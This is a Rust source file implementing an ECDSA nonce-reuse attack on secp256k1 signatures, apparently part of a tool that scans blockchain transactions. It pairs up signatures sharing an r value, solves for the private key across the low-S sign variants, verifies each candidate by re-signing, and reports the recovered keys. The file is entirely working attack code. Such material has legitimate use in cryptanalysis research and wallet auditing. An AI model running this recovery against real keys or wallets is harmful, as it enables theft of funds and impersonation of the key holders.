//! Nonce reuse attack implementation
//!
//! Two signatures by the same key with the same nonce k share R and satisfy
//! `s_i = (z_i + d·r) / k (mod n)`. Eliminating k gives
//! `d = (s2·z1 − s1·z2) / (r·(s1 − s2)) (mod n)`. Because s and n − s are
//! both valid for the same signature, all four sign combinations of the
//! denominator are tried and each candidate is checked by re-signing.
//! When only one of the two signatures was sign-flipped, the numerator
//! changes too; those two combinations are tried last.

use super::*;
use crate::math::{biguint_to_scalar, curve_order_signed, mod_inverse, reduce};
use k256::ecdsa::signature::hazmat::{PrehashSigner, PrehashVerifier};
use k256::ecdsa::{Signature as EcdsaSignature, SigningKey, VerifyingKey};
use k256::PublicKey;
use log::{debug, error, info, warn};
use num_bigint::{BigInt, Sign};

pub struct NonceReuseAttack;

impl Attack for NonceReuseAttack {
    fn name(&self) -> &'static str {
        "nonce-reuse"
    }

    fn min_pairs(&self) -> usize {
        2
    }

    fn solve(&self, pairs: &[SignatureHashPair]) -> SolveReport {
        let mut report = SolveReport::default();
        if pairs.len() < self.min_pairs() {
            debug!(
                "{} needs at least {} tuples, have {}",
                self.name(),
                self.min_pairs(),
                pairs.len()
            );
            return report;
        }

        for i in 0..pairs.len() {
            for j in (i + 1)..pairs.len() {
                report.examined += 1;
                let (lhs, rhs) = (&pairs[i], &pairs[j]);
                match recover_private_key(lhs, rhs) {
                    Ok(private_key) => {
                        info!("recovered private key from tuples {i} and {j}");
                        report.pairs.push(PairReport {
                            lhs: i,
                            rhs: j,
                            outcome: Ok(()),
                        });
                        report
                            .keys
                            .push(RecoveredKey::new(private_key, &lhs.public_key, (i, j)));
                    }
                    Err(RecoveryError::NoRValueReuse) => report.no_reuse += 1,
                    Err(e) => {
                        match e {
                            RecoveryError::NoResult => error!("tuples {i} and {j}: {e}"),
                            RecoveryError::CorruptPubkey => warn!("tuples {i} and {j}: {e}"),
                            _ => debug!("tuples {i} and {j}: {e}"),
                        }
                        report.pairs.push(PairReport {
                            lhs: i,
                            rhs: j,
                            outcome: Err(e),
                        });
                    }
                }
            }
        }

        report
    }
}

/// Recovers the private key shared by two tuples signed with the same nonce.
pub fn recover_private_key(
    lhs: &SignatureHashPair,
    rhs: &SignatureHashPair,
) -> Result<Scalar, RecoveryError> {
    if lhs.r != rhs.r {
        return Err(RecoveryError::NoRValueReuse);
    }

    let lhs_key =
        PublicKey::from_sec1_bytes(&lhs.public_key).map_err(|_| RecoveryError::CorruptPubkey)?;
    let rhs_key =
        PublicKey::from_sec1_bytes(&rhs.public_key).map_err(|_| RecoveryError::CorruptPubkey)?;
    if lhs_key != rhs_key {
        return Err(RecoveryError::PubkeyMismatch);
    }
    // Same signature over the same digest, e.g. one transaction seen twice.
    if lhs.s == rhs.s && lhs.z == rhs.z {
        return Err(RecoveryError::IdenticalInputs);
    }

    let n = curve_order_signed();
    let r = BigInt::from(lhs.r.clone());
    let s1 = BigInt::from(lhs.s.clone());
    let s2 = BigInt::from(rhs.s.clone());
    let z1 = BigInt::from_bytes_be(Sign::Plus, &lhs.z);
    let z2 = BigInt::from_bytes_be(Sign::Plus, &rhs.z);

    let numerator = reduce(&(&s2 * &z1), &n) - reduce(&(&s1 * &z2), &n);

    let candidates = [&s1 - &s2, &s1 + &s2, -&s1 - &s2, -&s1 + &s2];

    let verifying_key = VerifyingKey::from(&lhs_key);
    let try_candidate = |numerator: &BigInt, candidate: &BigInt| -> Option<Scalar> {
        // r·c ≡ 0 (mod n) has no inverse
        let denominator = mod_inverse(&(&r * reduce(candidate, &n)), &n)?;
        let private_key = reduce(&(numerator * denominator), &n);
        verify_candidate(&private_key, &lhs.z, &verifying_key)
    };

    for candidate in &candidates {
        if let Some(scalar) = try_candidate(&numerator, candidate) {
            return Ok(scalar);
        }
    }

    // Low-S normalisation of only one of the two signatures flips the sign
    // of a single s, which has to carry into the numerator as well.
    for (a, b) in [(s1.clone(), -&s2), (-&s1, s2.clone())] {
        let numerator = reduce(&(&b * &z1), &n) - reduce(&(&a * &z2), &n);
        if let Some(scalar) = try_candidate(&numerator, &(&a - &b)) {
            return Ok(scalar);
        }
    }

    Err(RecoveryError::NoResult)
}

/// Signs `z` with the candidate key and checks the signature against the
/// public key the tuples were signed with.
fn verify_candidate(candidate: &BigInt, z: &[u8; 32], verifying_key: &VerifyingKey) -> Option<Scalar> {
    let scalar = biguint_to_scalar(&candidate.to_biguint()?)?;
    let signing_key = SigningKey::from_bytes(&scalar.to_bytes()).ok()?;
    let signature: EcdsaSignature = signing_key.sign_prehash(z).ok()?;
    verifying_key.verify_prehash(z, &signature).ok()?;
    Some(scalar)
}
